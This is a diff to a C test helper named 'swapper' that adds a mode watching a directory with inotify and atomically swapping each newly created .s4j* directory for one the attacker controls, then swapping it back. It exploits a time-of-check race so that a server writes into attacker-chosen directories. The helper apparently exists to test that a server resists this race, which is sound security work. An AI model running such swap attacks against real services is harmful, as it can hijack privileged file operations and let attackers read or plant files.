@@ -5,7 +5,14 @@
  * one of its own that holds a link "s" to VICTIM.  Prints "ready", then
  * runs until killed.  Linux only; built by the test with cc.
  *
+ * With -d, it trades the server's private directories instead: as soon as
+ * inotify reports a new directory named .s4j* in DIR, exchanges it with the
+ * directory NAME (one the server's user owns, mode 0700, holding a file "s"
+ * of its own; a directory may be renamed within its parent by anyone who may
+ * write the parent), and back again a moment later.
+ *
  *	swapper DIR NAME VICTIM
+ *	swapper -d DIR NAME
  */
 #define	_GNU_SOURCE
 #include <dirent.h>
@@ -14,6 +21,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
+#include <sys/inotify.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 
@@ -27,6 +35,45 @@ exchange(int dfd, const char *a, const char *b)
 	return ((int)syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE));
 }
 
+/* swapper -d DIR NAME: trades every new .s4j* directory for NAME, and back. */
+static int
+trade(const char *dir, const char *name)
+{
+	int dfd, in;
+	char buf[8192] __attribute__((aligned(8)));
+	ssize_t n;
+
+	if ((dfd = open(dir, O_RDONLY | O_DIRECTORY)) < 0) {
+		perror(dir);
+		return (1);
+	}
+	if ((in = inotify_init()) < 0 ||
+	    inotify_add_watch(in, dir, IN_CREATE | IN_ONLYDIR) < 0) {
+		perror("inotify");
+		return (1);
+	}
+	(void) printf("ready\n");
+	(void) fflush(stdout);
+	while ((n = read(in, buf, sizeof (buf))) > 0) {
+		char *p = buf;
+
+		while (p < buf + n) {
+			struct inotify_event *e = (struct inotify_event *)p;
+
+			p += sizeof (*e) + e->len;
+			if (e->len == 0 || !(e->mask & IN_ISDIR) ||
+			    strncmp(e->name, ".s4j", 4) != 0)
+				continue;
+			/* Ours in; theirs back after a moment. */
+			if (exchange(dfd, name, e->name) == 0) {
+				(void) usleep(2000);
+				(void) exchange(dfd, name, e->name);
+			}
+		}
+	}
+	return (0);
+}
+
 int
 main(int argc, char **argv)
 {
@@ -34,8 +81,11 @@ main(int argc, char **argv)
 	unsigned long n;
 	char evil[64], trap[64], link[128];
 
+	if (argc == 4 && strcmp(argv[1], "-d") == 0)
+		return (trade(argv[2], argv[3]));
 	if (argc != 4) {
-		(void) fprintf(stderr, "usage: swapper DIR NAME VICTIM\n");
+		(void) fprintf(stderr,
+		    "usage: swapper DIR NAME VICTIM | swapper -d DIR NAME\n");
 		return (2);
 	}
 	if ((dfd = open(argv[1], O_RDONLY | O_DIRECTORY)) < 0) {
@@ -66,6 +116,8 @@ main(int argc, char **argv)
 
 		if (d == NULL)
 			continue;
+		/* The dup shares dfd's offset, left at the end by the last pass. */
+		rewinddir(d);
 		while ((e = readdir(d)) != NULL) {
 			if (strncmp(e->d_name, ".s4j", 4) != 0)
 				continue;
